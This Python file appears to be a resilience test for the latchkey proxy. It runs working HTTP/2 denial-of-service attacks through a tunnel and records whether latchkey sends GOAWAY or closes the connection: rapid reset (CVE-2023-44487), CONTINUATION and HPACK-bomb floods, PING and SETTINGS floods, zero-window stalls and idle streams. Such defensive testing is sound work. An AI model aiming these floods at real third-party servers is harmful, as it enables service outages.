"""An HTTP/2 client that floods latchkey from inside a tunnel (issue 20): through
latchkey (CONNECT, TLS with ALPN h2, certificate not checked) it runs one attack for at
most SECONDS, reading whatever latchkey sends meanwhile, and prints what happened as
JSON: how many frames it got out, whether latchkey sent GOAWAY (and its error code),
whether latchkey closed the connection.

attacks:
  rapid_reset    HEADERS then RST_STREAM(CANCEL), in a loop (CVE-2023-44487)
  continuation   HEADERS without END_HEADERS, then CONTINUATION frames without end
  hpack_bomb     one large header put in the HPACK table, then referenced thousands of
                 times (a few bytes on the wire, megabytes decoded), in a loop
  ping_flood     PING frames, never reading the PONGs
  settings_flood SETTINGS frames, never reading the ACKs
  settings_flood_again, ping_flood_again
                 the same, connecting again each time latchkey ends the connection,
                 until SECONDS are over (a flood that lasts while others are measured);
                 adds "connections" and "goaways" (the GOAWAY codes, one per connection)
  zero_window    a window of 0 never opened, then downloads asked for
  idle_streams   10,000 streams opened (HEADERS without END_STREAM) and left idle

usage: h2_flood.py PROXY_PORT HOST[:PORT] ATTACK SECONDS
"""
import json
import socket
import ssl
import struct
import sys
import threading
import time

import hpack

from h2_tunnel import open_h2_tunnel

port, host, attack, seconds = int(sys.argv[1]), sys.argv[2], sys.argv[3], float(sys.argv[4])
# HOST may carry a port (bench/floods.py floods 127.0.0.1:PORT); 443 when it does not.
authority = host if ":" in host else f"{host}:443"
host = authority.rsplit(":", 1)[0] if authority.endswith(":443") else authority

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


class Seen:
    """What latchkey sent, read on a thread (or not read at all, for the floods that
    never read)."""

    def __init__(self):
        self.goaway = None
        self.closed = False
        self.bytes = 0
        self.buf = b""

    def feed(self, data):
        self.bytes += len(data)
        self.buf += data
        at = 0  # an offset, not a slice per frame: megabytes of ACKs may arrive at once
        while len(self.buf) - at >= 9:
            length = int.from_bytes(self.buf[at:at + 3], "big")
            if len(self.buf) - at < 9 + length:
                break
            kind, payload = self.buf[at + 3], self.buf[at + 9:at + 9 + length]
            if kind == GOAWAY and len(payload) >= 8:
                self.goaway = struct.unpack(">I", payload[4:8])[0]
            at += 9 + length
        self.buf = self.buf[at:]


def reader(tls, seen):
    while True:
        try:
            data = tls.recv(65536)
        except (OSError, ssl.SSLError):
            seen.closed = True
            return
        if not data:
            seen.closed = True
            return
        seen.feed(data)


def request_headers(enc, path="/", method="GET", end_stream=True):
    block = enc.encode([(":method", method), (":scheme", "https"), (":authority", host), (":path", path)])
    return block, (END_STREAM if end_stream else 0)


def main():
    if attack.endswith("_again"):
        return again(attack.removesuffix("_again"))
    print(json.dumps(flood_once(attack, time.monotonic() + seconds)))


def again(kind):
    deadline = time.monotonic() + seconds
    results = []
    while time.monotonic() < deadline:
        r = flood_once(kind, deadline)
        if r["sent"]:  # not the one that connected as the time ran out
            results.append(r)
    print(json.dumps({"attack": kind + "_again", "connections": len(results),
                      "goaways": [r["goaway"] for r in results], "sent": sum(r["sent"] for r in results),
                      "goaway": results[-1]["goaway"], "closed": all(r["closed"] for r in results)}))


def flood_once(attack, deadline):
    tls = open_h2_tunnel(port, authority)
    seen = Seen()
    settings = b""
    if attack == "zero_window":
        settings = struct.pack(">HI", 0x4, 0)  # SETTINGS_INITIAL_WINDOW_SIZE = 0
    tls.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
    read = attack not in ("ping_flood", "settings_flood")
    if read:
        threading.Thread(target=reader, args=(tls, seen), daemon=True).start()
    enc = hpack.Encoder()
    sent, stream = 0, 1
    tls.settimeout(2)
    try:
        if attack == "continuation":
            block, _ = request_headers(enc)
            tls.sendall(frame(HEADERS, 0, 1, block))
            chunk = frame(CONTINUATION, 0, 1, b"\x40\x05x-pad\x8f" + b"a" * 15) * 256
            while time.monotonic() < deadline and not seen.closed:
                tls.sendall(chunk)
                sent += 256
        elif attack == "hpack_bomb":
            big = "b" * 4000
            while time.monotonic() < deadline and not seen.closed:
                # The request's own fields, then one literal with incremental indexing that
                # puts a 4 KB header in latchkey's table (the newest entry: index 62), then
                # 3,000 one-byte references to it: 3 KB on the wire, 12 MB decoded.
                fresh = hpack.Encoder()  # static-table references and literals only
                block = fresh.encode([(":method", "GET"), (":scheme", "https"), (":authority", host),
                                      (":path", "/")])
                literal = fresh.encode([("x-bomb", big)])
                refs = b"\xbe" * 3000
                tls.sendall(frame(HEADERS, END_STREAM | END_HEADERS, stream, block + literal + refs))
                stream += 2
                sent += 1
                time.sleep(0.001)
        elif attack == "rapid_reset":
            batch = []
            while time.monotonic() < deadline and not seen.closed:
                for _ in range(100):
                    block, _ = request_headers(enc)
                    batch.append(frame(HEADERS, END_STREAM | END_HEADERS, stream, block))
                    batch.append(frame(RST_STREAM, 0, stream, struct.pack(">I", 0x8)))
                    stream += 2
                tls.sendall(b"".join(batch))
                batch.clear()
                sent += 100
        elif attack == "ping_flood":
            chunk = frame(PING, 0, 0, b"12345678") * 1000
            while time.monotonic() < deadline:
                tls.sendall(chunk)
                sent += 1000
        elif attack == "settings_flood":
            chunk = frame(SETTINGS, 0, 0, struct.pack(">HI", 0x3, 100)) * 1000
            while time.monotonic() < deadline:
                tls.sendall(chunk)
                sent += 1000
        elif attack == "zero_window":
            for _ in range(100):
                block, _ = request_headers(enc, path="/big")
                tls.sendall(frame(HEADERS, END_STREAM | END_HEADERS, stream, block))
                stream += 2
                sent += 1
            while time.monotonic() < deadline and not seen.closed:
                time.sleep(0.1)
        elif attack == "idle_streams":
            while sent < 10000 and time.monotonic() < deadline and not seen.closed:
                block, _ = request_headers(enc, method="POST", end_stream=False)
                tls.sendall(frame(HEADERS, END_HEADERS, stream, block))
                stream += 2
                sent += 1
            while time.monotonic() < deadline and not seen.closed:
                time.sleep(0.1)
        else:
            raise SystemExit(f"unknown attack {attack}")
    except (OSError, ssl.SSLError, socket.timeout):
        seen.closed = True
    if not read:
        # Now read what latchkey said (a GOAWAY, or nothing), for a moment.
        tls.settimeout(1)
        try:
            while True:
                data = tls.recv(65536)
                if not data:
                    seen.closed = True
                    break
                seen.feed(data)
        except socket.timeout:
            pass
        except (OSError, ssl.SSLError):
            seen.closed = True
    else:
        time.sleep(0.5)
    tls.close()
    return {"attack": attack, "sent": sent, "goaway": seen.goaway, "closed": seen.closed,
            "bytes_read": seen.bytes}


main()
